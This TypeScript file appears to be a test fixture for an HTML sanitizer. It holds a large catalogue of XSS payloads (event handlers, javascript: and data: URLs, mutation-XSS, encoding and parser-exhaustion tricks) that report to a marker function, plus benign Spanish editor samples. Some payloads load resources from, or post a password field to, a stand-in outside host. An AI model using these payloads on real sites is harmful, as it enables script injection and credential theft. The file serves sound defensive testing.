// Rich texts that somebody who means harm would save. In each, RUN is a call that tells the window of the page that it
// ran; SEND tells the same from where that window cannot be reached into, a document of another origin.

type Body = string | ((run: string) => string)

const entities = (text: string) => text.replace(/./g, (letter) => `&#${letter.charCodeAt(0)};`)
const hexEntities = (text: string) => text.replace(/./g, (letter) => `&#x00${letter.charCodeAt(0).toString(16)}`)
const percent = (text: string) => text.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`)
const codes = (text: string) => `eval(String.fromCharCode(${[...text].map((letter) => letter.charCodeAt(0))}))`
const IMAGE = '<img src=x onerror=RUN>'

/** They run as soon as they are on a page. */
const BY_THEMSELVES: Body[] = [
  IMAGE,
  '<IMG SRC=x OnErRoR=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">',
  '<img src=x:x onerror=RUN//',
  '<img src=x onerror\n=\nRUN>',
  '<img\fsrc=x\fonerror=RUN>',
  '<img src=x title=""onerror=RUN>',
  "<img src='x'onerror='RUN'>",
  '<img src=`x` title=`a` onerror=RUN `>',
  '<img src="x" """onerror=RUN>',
  '<img = src=x onerror=RUN =>',
  '<img src=x title="a\n>\n" onerror="\n\tRUN\n">',
  '<img src=x srcset="javascript:RUN, x 2x" onerror=RUN>',
  (run) => `<img src=x onerror="${entities(run)}">`,
  (run) => `<img src=x onerror=${hexEntities(run)}>`,
  (run) => `<img src=x onerror=${codes(run)}>`,
  (run) => `<img src=x onerror="eval(decodeURIComponent(\`${percent(run)}\`))">`,
  (run) => `<img src=x onerror=eval(atob("${btoa(run)}"))>`,
  (run) => `<img src=x onerror="${run.replace('corrio', 'corr\\u0069o')}">`,
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><animate onend=RUN attributeName=x dur=1ms>',
  '<svg><set onbegin=RUN attributename=x to=1>',
  '<svg><animateTransform onbegin=RUN attributeName=transform dur=1s>',
  '<svg><image href=x onerror=RUN>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
  '<svg><p><svg onload=RUN></p></svg>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '<body onload=RUN>',
  '<body onpageshow=RUN><p>x</p>',
  '<frameset onload=RUN></frameset>',
  '<video><source onerror=RUN></video>',
  '<video src=x onerror=RUN></video>',
  '<video src=x onloadstart=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<audio><source src=x onerror=RUN></audio>',
  '<details open ontoggle=RUN>x</details>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<p tabindex=0 autofocus onfocusin=RUN>x</p>',
  '<input type=image src=x onerror=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<iframe onload=RUN></iframe>',
  '<object data=/nada onerror=RUN></object>',
  '<embed src=/nada onload=RUN>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<link rel=stylesheet href="data:text/css," onload=RUN>',
  '<style onload=RUN></style>',
  '<script src=x onerror=RUN></script>',
  '<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend=RUN>x</p>',
  '<style>@keyframes b{}</style><b style="animation-name:b;animation-duration:1s" onanimationstart=RUN>x</b>',
  '<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=RUN>x</p>',
]

/** They wait for whoever reads to point, press, write or scroll. */
const BY_HAND: Body[] = [
  ...['click', 'dblclick', 'mouseover', 'pointerenter', 'contextmenu', 'wheel', 'copy', 'dragstart'].map(
    (name) => `<p on${name}=RUN>x</p>`,
  ),
  '<table><tr><td onmouseenter=RUN>x</td></tr></table>',
  '<ul><li onpointerdown=RUN>x</ul>',
  '<h2 tabindex=1 onkeydown=RUN>x</h2>',
  '<a href=# onfocus=RUN>x</a>',
  '<img src=/favicon.ico alt=x onmousemove=RUN>',
  '<details ontoggle=RUN><summary>x</summary>y</details>',
  '<p contenteditable oninput=RUN onbeforeinput=RUN>x</p>',
  '<input oninput=RUN onchange=RUN>',
  '<form onsubmit=RUN><button>x</button></form>',
  '<form onreset=RUN><button type=reset>x</button></form>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<form><input type=submit formaction="javascript:RUN"></form>',
  '<form><input type=image formaction="javascript:RUN" src=/favicon.ico></form>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<button form=f formaction="java&Tab;script:RUN">x</button><form id=f></form>',
  '<button popovertarget=p1>x</button><p popover id=p1 ontoggle=RUN>y</p>',
  '<button popovertarget=p2>x</button><p popover id=p2 onbeforetoggle=RUN>y</p>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
  '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>x</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="javascript:RUN"/><text y=9>x</text></a></svg>',
  '<math><mi href="javascript:RUN">x</mi></math>',
  '<map name=m><area shape=default href="javascript:RUN"></map><img usemap=#m src=/favicon.ico>',
]

/** Addresses that are programs, said in many ways. */
const ADDRESSES: Body[] = [
  ...[
    'javascript:RUN',
    ' \tJaVaScRiPt:RUN',
    'java\tscript:RUN',
    'java\nscript:RUN',
    'java\r\nscript:RUN',
    'java&Tab;script:RUN',
    'javascript&NewLine;:RUN',
    'javascript&colon;RUN',
    '\x01\x1fjavascript:RUN',
    '&#x6A;avascript:RUN',
    '&#0000106avascript&#58RUN',
    'javascript://%0aRUN',
    'javascript://x?%E2%80%A8RUN',
    'javascript:/*<!--*/RUN/*-->*/',
    'java\0script:RUN',
    '\u202Ejavascript:RUN',
    'java\u200Bscript:RUN',
    '\uFF4Aavascript:RUN',
    'javascript\uFF1ARUN',
    'view-source:javascript:RUN',
    'feed:javascript:RUN',
    'vbscript:RUN',
    'data:text/html,<script>SEND</script>',
    'blob:null/javascript:RUN',
    '//fuera.example/a',
    '/\\fuera.example/a',
    '\\\\fuera.example\\a',
    '/\t/fuera.example/a',
  ].map((address) => `<a href="${address}">x</a>`),
  (run) => `<a href="${entities(`javascript:${run}`)}">x</a>`,
  (run) => `<a href="javascript:${percent(run)}">x</a>`,
  (run) => `<a href="data:text/html;base64,${btoa(`<script>${run}</script>`)}">x</a>`,
  '<a target=_blank rel=opener href="javascript:opener.RUN">x</a>',
  '<a href=javascript:RUN target=_self ping=//fuera.example/p>x</a>',
  '<a title="\'" href=\'javascript:"><img src=x onerror=RUN>\'>x</a>',
  '<base href="javascript:RUN//"><a href=x>x</a>',
  '<base href=//fuera.example/><script src=a.js></script><img src=b.png>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe src="&#10;java&Tab;script:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;svg onload=RUN&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="data:text/html,<script>SEND</script>"></iframe>',
  '<iframe src="/" name="javascript:RUN" onload=RUN></iframe>',
  '<embed src="javascript:RUN">',
  '<embed type=text/html src="data:text/html,<script>SEND</script>">',
  '<object data="javascript:RUN"></object>',
  '<object type=text/html data="data:text/html,<script>SEND</script>"></object>',
  '<object><param name=src value="javascript:RUN"></object>',
  '<img src="javascript:RUN">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>">',
  '<svg><use href="data:image/svg+xml,<svg id=a xmlns=%22http://www.w3.org/2000/svg%22 onload=RUN/>#a"/></svg>',
  '<table background="javascript:RUN"><tr><td background="javascript:RUN">x</table>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>SEND</script>">',
  '<meta http-equiv=refresh content="0;url=//fuera.example/a">',
  '<link rel=import href="data:text/html,<script>RUN</script>">',
  '<link rel=stylesheet href="javascript:RUN"><link rel=stylesheet href=//fuera.example/a.css>',
  '<p style="background:url(javascript:RUN);width:expression(RUN);behavior:url(#x)">x</p>',
  '<p style="background:url(//fuera.example/a.png)">x</p>',
  '<style>@import "javascript:RUN";@import url(//fuera.example/a.css);*{background:url(//fuera.example/b)}</style>',
  '<img src=//fuera.example/a.png srcset="//fuera.example/b.png 2x">',
  '<picture><source srcset=//fuera.example/a.png><img src=/\\fuera.example/b.png></picture>',
  '<video src=//fuera.example/a.mp4 poster=//fuera.example/b.png><track src=//fuera.example/c.vtt></video>',
  '<svg><image href=//fuera.example/a.svg /><feImage href=//fuera.example/b.svg /></svg>',
  '<form action=//fuera.example/a><input name=clave><button>x</button></form>',
]

const SCRIPTS: Body[] = [
  '<script>RUN</script>',
  '<SCRIPT\n>RUN</SCRIPT\n>',
  '<script/x>RUN</script/x>',
  '<<script>RUN//<</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script>RUN',
  '<script type=module>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  (run) => `<svg><script>${entities(run)}</script></svg>`,
  '<noscript><script>RUN</script></noscript>',
  '<scr\0ipt>RUN</scr\0ipt>',
  '<p>a\0b</p>\0<img\0 src=x on\0error=RUN>\0',
]

/** Innocent until they are parsed a second time, or by another parser, or elsewhere in the document. */
const MUTATING: Body[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<p><svg><p><style><g title="</style><img src=x onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<noscript><style></noscript><img src=x onerror=RUN></style>',
  '<template><img src=x onerror=RUN></template>',
  '<p><template shadowrootmode=open><img src=x onerror=RUN></template></p>',
  ...['style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'iframe', 'script'].map(
    (name) => `<${name}><p title="</${name}><img src=x onerror=RUN>"></p></${name}>`,
  ),
  '<style><!--</style><img src=x onerror=RUN>-->',
  '<xmp>&lt;/xmp&gt;&lt;img src=x onerror=RUN&gt;</xmp><plaintext><img src=x onerror=RUN>',
  '<select><option><style></option></select><img src=x onerror=RUN></style>',
  '<option>&lt;img src=x onerror=RUN&gt;<textarea>&lt;/textarea&gt;<img src=x onerror=RUN>',
  '<table><img src=x onerror=RUN><tr><p title="</table>"><svg onload=RUN></table>',
  '<table><caption><svg><desc><table><caption></table><img src=x onerror=RUN>',
  '<p><button><p><a><table><a><tr><p><img src=x onerror=RUN></table></button></p>',
  '<form><div></form><form><input name=parentNode><img src=x onerror=RUN>',
  '<!--><img src=x onerror=RUN>-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<!--[if gte IE 4]><img src=x onerror=RUN><![endif]--><![if true]><img src=x onerror=RUN><![endif]>',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml version="1.0"?><?php <img src=x onerror=RUN> ?>',
  '<!DOCTYPE a [<!ENTITY b "<img src=x onerror=RUN>">]>&b;',
  '</<img src=x onerror=RUN></ p><//><img src=x onerror=RUN>',
  '<p id="</p><img src=x onerror=RUN>" title="`><img src=x onerror=RUN>">x</p>',
  '<img alt="<table" title="><img src=x onerror=RUN>" src=/favicon.ico><a title="</table><img src=x onerror=RUN>">x',
  '<h1 id=a><p><h2 onclick=RUN><ul><p><li><p></ul></h1>',
  '<form id=document name=top><input name=location><input id=cookie></form><img name=getElementById src=x onerror=RUN>',
  '<a id=config><a id=config name=url href="javascript:RUN">x</a><iframe name=React srcdoc="<a id=b>"></iframe>',
]

/** Text that would become more if it were decoded once too often, or written into a program. */
const TEXTS: Body[] = [
  '&lt;img src=x onerror=RUN&gt;&lt;script&gt;RUN&lt;/script&gt;',
  '<p title="&quot;&gt;&lt;svg onload=RUN&gt;">&amp;lt;img src=x onerror=RUN&amp;gt;</p>',
  '<a title="&lt;table&gt;&lt;img src=x onerror=RUN&gt;" href="/a?b=&lt;svg onload=RUN&gt;">&lt;/a&gt;</a>',
  '%3Cimg src=x onerror=RUN%3E \\u003cimg src=x onerror=RUN\\u003e \\x3csvg onload=RUN\\x3e',
  '<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-RUN+AD4-',
  '\uFF1Cimg src=x onerror=RUN\uFF1E \u02BCimg \u2039svg onload=RUN\u203A \uD800<img src=x onerror=RUN>',
  '</script><script>RUN</script>',
  '--></script></style></title></textarea></noscript></template><svg onload=RUN>',
  '"><img src=x onerror=RUN>\'><svg/onload=RUN>`><b onclick=RUN>x',
  '"+RUN+"\'-RUN-\'$' + '{RUN}{{RUN}}<%= RUN %>\u2028RUN//',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
  '&lt;p&gt;a@b.example&gt;<b>c@d.example</b><img src=x onerror=RUN>e@<svg onload=RUN>f.example',
]

/** So much of one thing that a parser gives up. */
const LARGE: Body[] = [
  '<blockquote>'.repeat(10_000) + IMAGE,
  ...['<svg><g>', '<b><i>', '<p><button>'].map((tags) => tags.repeat(5_000) + IMAGE),
  '<table><tr><td>'.repeat(200) + IMAGE,
  `<a title="${'"'.repeat(3)}${'x'.repeat(60_000)}" href=x ${'y '.repeat(2_000)}onclick=RUN>x</a>`,
  `${'<'.repeat(5_000)}img src=x onerror=RUN${'>'.repeat(5_000)}${IMAGE}`,
  `<!--${'-'.repeat(20_000)}!>${IMAGE}`,
]

/** Each says its own number when it runs. */
export const HOSTILE: string[] = [
  ...[...BY_THEMSELVES, ...BY_HAND, ...ADDRESSES, ...SCRIPTS, ...MUTATING, ...TEXTS, ...LARGE],
].map((body, n) => {
  const run = `top.corrio(${n})`
  const written = typeof body === 'string' ? body : body(run)
  return written.replaceAll('opener.RUN', `opener.${run}`).replaceAll('RUN', run).replaceAll('SEND', sendOf(n))
})

function sendOf(n: number) {
  return `top.postMessage(${n},String.fromCharCode(42))`
}

/** What an editor writes. @param image address of an image of this site */
export const honest = (image: string): string[] => [
  '<h2>Cronograma</h2><p>Del <strong>5</strong> al <em>9</em> de <u>marzo</u>, <s>sábado</s>.<br>Fin.</p><hr><h3>Notas</h3>',
  '<ul><li>Uno<ul><li>Uno y medio<ol start="3" type="i"><li>Tres</li><li>Cuatro</li></ol></li></ul></li><li>Dos</li></ul>',
  `<table><caption>Tasas</caption><thead><tr><th scope="col">Trámite</th><th scope="col" colspan="2">Costo</th></tr></thead>
   <tbody><tr><th scope="row" rowspan="2">Título</th><td>S/ 10.00</td><td>S/ 12.50</td></tr><tr><td colspan="2">Gratis</td></tr></tbody>
   <tfoot><tr><td colspan="3">Vigentes</td></tr></tfoot></table>`,
  `<figure><img src="${image}" alt="Patio &quot;central&quot;" width="320" height="200"><figcaption>Patio</figcaption></figure>`,
  `<p><a href="/transparencia/convenios" title="Todos">Convenios</a>, <a href="https://www.gob.pe/?a=1&amp;b=2" target="_blank"
   rel="noopener">fuera</a>, <a href="mailto:mesa@serena.example">mesa@serena.example</a>, <a href="tel:+5111234567">llame</a>, <a href="#a">abajo</a></p>`,
  '<blockquote><p>Aprender haciendo: 1 &lt; 2 &amp; 3 &gt; 2, "así".</p></blockquote><pre><code>si (a &lt; b) {\n  fin\n}</code></pre>',
  '<details open><summary>¿Cuánto dura?</summary><p>Seis semestres: H<sub>2</sub>O y m<sup>2</sup></p></details>',
  '<dl><dt>Sede</dt><dd>Lima</dd><dt>Turno</dt><dd><b>Mañana</b> y <i>noche</i></dd></dl><h4>Ñandú, 100 % 🎓</h4>',
]
